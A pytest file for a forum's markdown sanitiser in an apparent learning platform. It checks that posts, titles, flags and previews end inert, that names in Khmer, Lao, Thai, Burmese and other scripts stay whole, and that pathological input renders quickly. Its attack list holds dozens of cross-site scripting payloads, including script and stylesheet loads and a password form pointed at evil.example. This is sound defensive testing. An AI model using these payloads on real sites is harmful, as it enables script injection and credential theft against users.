"""Whatever is pasted into a post ends inert, and every script stays as it was written."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from flask.testing import FlaskClient

from lms.core import clock, markdown
from lms.forums.values import Version
from tests.core import factories as core
from tests.forums import factories
from tests.forums.factories import Place

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "[x](java&Tab;script&colon;alert(1))",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a id=main name=main class=btn target=_blank>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example" onmouseover="alert(1))',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "![x](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "<https://a.example/onload=alert(1)>",
    "**<script>alert(1)</script>**",
    "> > <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>\n    - <script>alert(1)</script>",
    "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '``` " onload=alert(1)\nx\n```',
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</div></article></main><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "~~<script>~~alert(1)~~</script>~~",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="https://a.example"><script>alert(1)</script></a>',
    "\u2028<script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "{{ 7 * 7 }} {% include 'x' %}",
]
TAGS = {
    "p", "br", "a", "b", "em", "strong", "i", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li", "hr", "table",
    "thead", "tbody", "tr", "th", "td", "sub", "sup", "span", "abbr",
}  # fmt: skip
# What a browser takes for a scheme, once it has thrown tabs and line breaks away.
SCHEME = re.compile(r"[a-zA-Z][a-zA-Z0-9+.-]*:")
ATTRIBUTES = {"href", "title", "rel", "align", "scope"}


class Inspector(HTMLParser):
    """Notes every tag and attribute that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_end_inert(attack: str) -> None:
    """Nothing is left but harmless tags, harmless attributes, and links to pages and addresses."""
    found = Inspector()
    found.feed(markdown.post(attack))
    assert found.tags <= TAGS
    assert found.attributes <= ATTRIBUTES
    for link in found.links:
        scheme = SCHEME.match(re.sub(r"[\t\r\n]", "", link).lstrip())
        assert scheme is None or scheme[0].lower() in {"http:", "https:", "mailto:"}, link


def test_attacks_in_the_pages(place: Place, signed_in: Callable[[int], FlaskClient]) -> None:
    """The pages around the posts let nothing through either: topic, list, history, report, queue, preview."""
    learner, tutor = (signed_in(place.person(who)) for who in ("learner", "tutor"))
    text = "\n\n".join(ATTACKS)
    posted = factories.topic(place, place.other, title="<script>alert('t')</script>", body=text)
    act = f"{place.base}/posts/{posted.post_id}"
    learner.post(f"{act}/flag", data={"category": "other", "note": "<script>alert('n')</script>"})
    tutor.post(f"{place.base}/module1/{posted.topic_id}/lock", data={"reason": "<script>alert('r')</script>"})
    urls = [
        "module1/",
        f"module1/{posted.topic_id}",
        f"posts/{posted.post_id}/history",
        f"posts/{posted.post_id}/hide",
        "flags",
    ]
    for url in [*urls, f"module1/{posted.topic_id}/move", f"module1/{posted.topic_id}/lock"]:
        page = tutor.get(f"{place.base}/{url}").text
        assert "<script>alert" not in page
        assert "onerror=" not in page.replace("&lt;img", "")[: page.find("<h1")]
        found = Inspector()
        found.feed(page)
        assert not {name for name in found.attributes if name.startswith("on")}
        assert not [link for link in found.links if link.lower().startswith(("javascript", "data", "vbscript", "file"))]
    page = learner.post(f"{place.base}/preview", data={"body": "<script>alert(1)</script>"}).text
    assert page == "<p></p>" or "<script" not in page


NAMES = [
    "សុខា ពៅ",
    "ច័ន្ទ សុភ័ក្ត្រ",
    "ນາລິນ ເອກະພົນ",
    "ພູມີ ວົງສາ",
    "เกษม ศรีสุข",
    "น้ำผึ้ง เก่งกล้า",
    "သီတာ လှိုင်",
    "မြတ်နိုးသူ",
    "Nguyễn Thị Hà",
    "林美玲",
]


@pytest.mark.parametrize("name", NAMES)
def test_names_stay_whole(place: Place, signed_in: Callable[[int], FlaskClient], name: str) -> None:
    """A name in any script comes back character by character: in text, emphasis, link, title, as author."""
    author = core.enrolment(place.edition, core.person(name=name))
    browser = signed_in(core.person_of(author))
    body = f"Thank you @{name}, **{name}**, [{name}](https://example.org/{name}) and\n\n> {name}\u200b{name}"
    answer = browser.post(f"{place.base}/module1/new", data={"title": f"For {name}", "body": body})
    page = browser.get(answer.location).text
    assert f"@{name}, <strong>{name}</strong>, <a " in page
    assert f">{name}</a>" in page
    assert f"{name}\u200b{name}" in page
    assert f"<h1>For {name}</h1>" in page or f">For {name}</h1>" in page
    language = Version(1, "", name, clock.now()).language
    if language:
        assert f'<b lang="{language}">{name}</b>' in page


@pytest.mark.parametrize(
    "text",
    [
        "[" * 10_000,
        "![" * 5_000,
        "[a](" * 2_500,
        "1. " * 3_333,
        ">" * 10_000,
        "<a " * 3_333,
        "**a " * 2_500,
        "```\n" * 2_500,
    ],
)
def test_texts_made_to_take_long(text: str) -> None:
    """No text of the length a post may have takes more than a few seconds or fails."""
    begin = time.process_time()
    markdown.post(text)
    assert time.process_time() - begin < 5
